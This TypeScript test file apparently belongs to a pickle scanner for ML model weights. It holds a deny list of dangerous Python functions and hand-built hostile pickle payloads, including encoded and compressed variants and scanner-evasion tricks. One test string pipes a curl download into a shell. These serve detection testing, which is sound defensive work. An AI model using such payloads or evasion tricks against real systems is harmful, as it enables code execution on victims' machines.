import assert from 'node:assert/strict';
import { deflateSync, gzipSync } from 'node:zlib';
import { sourceOf } from '../../../src/bytes/source';
import type { Scan } from '../../../src/domain/scan';
import { recognizedAs } from '../../../src/weights/recognize';
import { scanWeights } from '../../../src/weights/scan';
import { binary, bytesOf, global, long, short, stackGlobal, u32 } from './assemble';

async function scan(text: string): Promise<Scan> {
  const source = sourceOf(bytesOf(text));
  const file = { path: 'model.pkl', source, head: await source.read(0, 65_536) };
  return scanWeights(file, await recognizedAs(file), { limit: 1 << 28 });
}

/** Functions that run what they are given, or reach files and the network. */
const gadgets = `
  os.system posix.system nt.system subprocess.Popen subprocess.run subprocess.check_output commands.getoutput popen2.popen2
  builtins.eval builtins.exec builtins.compile builtins.open builtins.__import__ builtins.breakpoint builtins.globals
  builtins.vars builtins.setattr __builtin__.eval builtins.eval.__call__ runpy.run_path runpy._run_code importlib.import_module
  imp.load_source pty.spawn platform.popen ctypes.CDLL timeit.timeit code.interact code.InteractiveInterpreter.runcode
  codeop.compile_command cProfile.run cProfile.runctx profile.Profile.runctx bdb.Bdb bdb.Bdb.run pdb.run trace.Trace.runctx
  doctest.debug_script lib2to3.pgen2.grammar.Grammar.loads idlelib.pyshell.ModifiedInterpreter.runcode
  idlelib.autocomplete.AutoComplete.get_entity idlelib.debugobj.ObjectTreeItem.SetText ensurepip._run_pip
  asyncio.unix_events._UnixSubprocessTransport._start asyncio.create_subprocess_shell distutils.file_util.write_file
  setuptools.sandbox.run_setup pip.main pip._internal.cli.main.main pydoc.locate pydoc.pipepager pkgutil.resolve_name
  uuid._get_command_stdout _osx_support._read_output _aix_support._read_cmd_output _pyrepl.pager.pipe_pager
  imaplib.IMAP4_stream test.support.script_helper.assert_python_ok webbrowser.open socket.create_connection ssl.SSLSocket
  http.client.HTTPSConnection urllib.request.urlopen ftplib.FTP smtplib.SMTP telnetlib.Telnet xmlrpc.client.ServerProxy
  sqlite3.connect shelve.open dbm.dumb.open io.open io.FileIO _io.FileIO _pyio.open bz2.open gzip.GzipFile tarfile.open
  zipfile.ZipFile shutil.rmtree os.remove tempfile.mktemp glob.glob linecache.getline fileinput.input pathlib.Path.write_text
  pathlib.PosixPath.unlink pathlib.Path.mkdir logging.FileHandler logging.config.listen logging.config.dictConfig
  multiprocessing.Process multiprocessing.util.spawnv_passfds threading.Thread _thread.start_new_thread signal.signal
  atexit.register gc.get_objects sys.settrace inspect.getattr_static pickle.loads _pickle.loads marshal.loads
  cloudpickle.loads cloudpickle.cloudpickle._make_function dill.loads dill._dill._create_code types.FunctionType types.CodeType
  functools.reduce codecs.decode base64.b64decode zlib.decompress binascii.unhexlify operator.setitem
  builtins.bytes.fromhex builtins.bytearray.fromhex builtins.str.join collections._sys.modules random._os.system
  numpy.load numpy.loadtxt numpy.memmap numpy.fromfile numpy.save numpy.lib.npyio.load numpy.f2py.crackfortran.getlincoef
  numpy.testing._private.utils.runstring numpy.distutils.exec_command.exec_command numpy.os.system numpy.__builtins__
  pandas.read_pickle pandas.read_csv pandas.eval pandas.core.computation.eval.eval pandas.core.frame.DataFrame.query
  pandas.DataFrame.to_csv pandas.HDFStore scipy.io.loadmat joblib.load joblib.memory.Memory joblib.externals.cloudpickle.loads
  torch.load torch.save torch.hub.load torch.hub._exec_module torch.jit.load torch.serialization.load torch.os.system
  torch.utils.cpp_extension.load_inline torch.utils.collect_env.run torch._dynamo.guards.GuardBuilder.get
  torch._inductor.codecache.compile_file torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
  torch.utils.bottleneck.__main__.run_cprofile torch.utils.data.datapipes.utils.decoder.basichandlers
  torch.utils._config_module.ConfigModule.load_config torch.jit.unsupported_tensor_ops.execWrapper
  torch.package.PackageImporter torch.distributed.rpc.rpc_sync torch.ops.load_library
  transformers.pipeline transformers.AutoModel.from_pretrained transformers.dynamic_module_utils.get_class_from_dynamic_module
  huggingface_hub.snapshot_download sklearn.datasets.fetch_openml sklearn.utils._testing._delete_folder
  keras.models.load_model keras.utils.get_file tensorflow.py_function tensorflow.io.read_file spacy.load nltk.download
  gensim.utils.unpickle networkx.read_gpickle statsmodels.iolib.smpickle.load_pickle fastai.learner.load_learner
  sympy.sympify sympy.parsing.sympy_parser.parse_expr PIL.ImageMath.eval PIL.Image.open skimage.io.imread
  hydra.utils.instantiate IPython.start_ipython yaml.unsafe_load jsonpickle.decode requests.get httpx.get aiohttp.ClientSession
  paramiko.SSHClient fabric.Connection pexpect.spawn psutil.Popen jinja2.Template flask.Flask.run cffi.FFI
`
  .trim()
  .split(/\s+/);

/** `os.path.join` is `join` in `os.path`; a class with its method is a name with a dot. */
function split(gadget: string): readonly [string, string] {
  const [, module = '', name = ''] =
    /^(.+?)\.([A-Z_]\w*\.\w+|__\w+__|_os\.system|os\.system|_sys\.modules|eval\.__call__|(?:bytes|bytearray|str)\.\w+|\w+)$/.exec(
      gadget,
    ) ?? [];
  return [module, name];
}

/** The ways by which a pickle calls a function with an argument. */
const ways: Readonly<Record<string, (module: string, name: string) => string>> = {
  'GLOBAL and REDUCE': (module, name) => `${global(module, name)}(S'echo hi'\ntR.`,
  'STACK_GLOBAL and REDUCE': (module, name) => `\x80\x04${stackGlobal(module, name)}${short('echo hi')}\x85R.`,
  INST: (module, name) => `(S'echo hi'\ni${module}\n${name}\n.`,
  OBJ: (module, name) => `(${global(module, name)}S'echo hi'\no.`,
  'the depth of a dictionary': (module, name) =>
    `\x80\x02}${long('weights')}${global(module, name)}${long('echo hi')}\x85Rs.`,
  'partial, called': (module, name) =>
    `\x80\x02${global('functools', 'partial')}${global(module, name)}${long('echo hi')}\x86R)R.`,
  'a stream without end': (module, name) => `\x80\x02${global(module, name)}${long('echo hi')}\x85R`,
  'a second stream': (module, name) => `\x80\x02N.\x80\x02${global(module, name)}${long('echo hi')}\x85R.`,
  'bytes within': (module, name) => `\x80\x03${binary(`\x80\x02${global(module, name)}${long('echo hi')}\x85R.`)}.`,
};

describe('weights: hostile pickles', () => {
  for (const [way, assemble] of Object.entries(ways)) {
    it(`finds every gadget called by ${way}`, async () => {
      const missed: string[] = [];
      for (const gadget of gadgets) {
        const { verdict } = await scan(assemble(...split(gadget)));
        if (verdict !== 'dangerous') missed.push(`${gadget}: ${verdict}`);
      }
      assert.deepEqual(missed, []);
    });
  }

  /** Bytes as Latin-1, in UTF-8. */
  const asUtf8 = (bytes: Buffer): string => Buffer.from(bytes.toString('latin1')).toString('latin1');
  const payload = "cos\nsystem\n(S'echo hi'\ntR.";
  const protocol4 = `\x80\x04${stackGlobal('os', 'system')}${short('echo hi')}\x85R.`;
  for (const [wrapping, wrapped] of [
    ['Base64', (bytes: string) => Buffer.from(bytes, 'latin1').toString('base64')],
    ['hexadecimal digits', (bytes: string) => Buffer.from(bytes, 'latin1').toString('hex')],
    ['Base64 of zlib', (bytes: string) => deflateSync(Buffer.from(bytes, 'latin1')).toString('base64')],
    ['hexadecimal digits of gzip', (bytes: string) => gzipSync(Buffer.from(bytes, 'latin1')).toString('hex')],
    ['zlib', (bytes: string) => deflateSync(Buffer.from(bytes, 'latin1')).toString('latin1')],
    ['gzip', (bytes: string) => gzipSync(Buffer.from(bytes, 'latin1')).toString('latin1')],
  ] as const) {
    it(`sees a pickle within ${wrapping}`, async () => {
      for (const inner of [payload, protocol4]) {
        assert.equal((await scan(`\x80\x03${binary(wrapped(inner))}.`)).verdict, 'dangerous');
        assert.equal((await scan(`\x80\x03}${long('state')}${binary(wrapped(inner))}s.`)).verdict, 'dangerous');
      }
    });
  }

  for (const [trick, text] of [
    ['a method planted under a hook', `cacme\nA\n)R}S'__setstate__'\ncsklearn.base\nclone\nsb.`],
    ['a method planted in slots', `cacme\nA\n)RN}S'__class__'\ncacme\nB\ns\x86b.`],
    ['an item put into a module', '\x80\x02cnumpy\ncore\nX\x01\0\0\0aK\x01s.'],
    ['items put into a class', '\x80\x02ccollections\nOrderedDict\n(X\x01\0\0\0aK\x01u.'],
    ['something appended to a name', '\x80\x02cnumpy\nlist\nK\x01a.'],
    ['a state put into a class', '\x80\x02ccollections\nOrderedDict\n}X\x01\0\0\0aK\x01sb.'],
    ['a tool for each item', '\x80\x02cbuiltins\nmap\ncnumpy\nload\n]\x86R.'],
    ['attrgetter for a deed', "coperator\nattrgetter\n(S'system'\ntR."],
    ['attrgetter for what is inside', "coperator\nattrgetter\n(S'a.__globals__'\ntR."],
    ['attrgetter for what is not told', 'coperator\nattrgetter\n(]tR.'],
    ['methodcaller for a deed', "coperator\nmethodcaller\n(S'popen'\nS'id'\ntR."],
    ['what attrgetter gives, called', "coperator\nattrgetter\n(S'name'\ntR(NtR."],
    ['a type by name that makes code', "cdill._dill\n_load_type\n(S'CodeType'\ntR(tR."],
    ['bytes that are computed and loaded', '\x80\x02ctorch.storage\n_load_from_bytes\ncbuiltins\nbytes\n]\x85R\x85R.'],
    ['bytes to load that begin oddly', `\x80\x02ctorch.storage\n_load_from_bytes\n${binary(`N0${payload}`)}\x85R.`],
    [
      'a text to load that begins oddly',
      `\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\n${long(`N0${payload}`)}${long('latin1')}\x86R\x85R.`,
    ],
    [
      'a scalar of objects that begins oddly',
      `\x80\x03cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\n${long('O8')}\x85R${binary(`]0${payload}`)}\x86R.`,
    ],
    ['zlib as a text of protocol 2', `\x80\x02${long(asUtf8(deflateSync(Buffer.from(payload))))}.`],
    ['what turns scanners off', 'cfickling.hook\ndeactivate_safe_ml_environment\n(tR.'],
    ['a program text for an unknown function', "cacme\nprepare\n(S'import os; os.getcwd()'\ntR."],
    ['a command for a function of a library', "csklearn.base\nclone\n(S'curl http://a | sh'\ntR."],
    [
      'dangerous behind much that is doubtful',
      `${Array.from({ length: 300 }, (_, at) => `cacme\nf${at}\n0`).join('')}${payload}`,
    ],
    ['an instruction that straddles a frame', '\x80\x04\x95\x05\0\0\0\0\0\0\0NNNC\x03abc.'],
  ] as const) {
    it(`is dangerous by ${trick}`, async () => assert.equal((await scan(text)).verdict, 'dangerous'));
  }

  it('does not know what is cut off between the streams of old PyTorch', async () => {
    const streams = [
      '\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.',
      '\x80\x02M\xe9\x03.',
      '\x80\x02}.',
      '\x80\x02}.',
      '\x80\x02].',
    ];
    for (let count = 1; count < streams.length; count++)
      assert.equal((await scan(streams.slice(0, count).join(''))).verdict, 'unknown', `${count} streams`);
    assert.equal((await scan(streams.join(''))).verdict, 'safe');
  });

  it('doubts a tool that is only made, without running what it does when it is called', async () => {
    assert.equal((await scan('\x80\x02cjoblib.memory\nMemory\n)\x81.')).verdict, 'suspicious');
    assert.equal((await scan('\x80\x02cjoblib.memory\nMemory\n)R.')).verdict, 'dangerous');
    assert.equal((await scan('\x80\x02cnumpy\nmemmap\n)\x81.')).verdict, 'dangerous');
  });

  it('doubts a program that is packed away as a text', async () => {
    const program = 'import os\nimport base64\n\ndef setup():\n    os.system("id")\n\nsetup()\n';
    const text = `\x80\x02}${long('weights')}${long(Buffer.from(program).toString('base64'))}s.`;
    const { verdict, findings } = await scan(text);
    assert.deepEqual([verdict, ...findings.map(({ code }) => code)], ['suspicious', 'pickle/packed-code']);
  });

  it('doubts what is filled once shapes were given up', async () => {
    const many = `${')\x94'.repeat(100_001)}1`;
    const object = 'ccollections\nOrderedDict\n)R\x940}X\x0c\0\0\0__setstate__cnumpy\nload\ns\x940';
    const [first, second] = [`j${u32(100_001)}j${u32(100_002)}b0`, `j${u32(100_001)}X\x04\0\0\0pathb`];
    const { verdict } = await scan(`\x80\x04(${many}${object}${first}${second}.`);
    assert.equal(verdict, 'suspicious');
  });

  it('doubts calls that cannot succeed, and functions for each item', async () => {
    for (const text of [
      '\x80\x04\x8c\x0bcollections\x8c\x0bOrderedDict\x93\x8c\x04echo\x85R.',
      '\x80\x02cbuiltins\nmap\ncsklearn.base\nclone\n]\x86R.',
      'cacme\nA\n)R}S"a"\nI1\nsb}S"a"\nI1\nsb.',
    ]) {
      assert.equal((await scan(text)).verdict, 'suspicious', text);
    }
  });
});
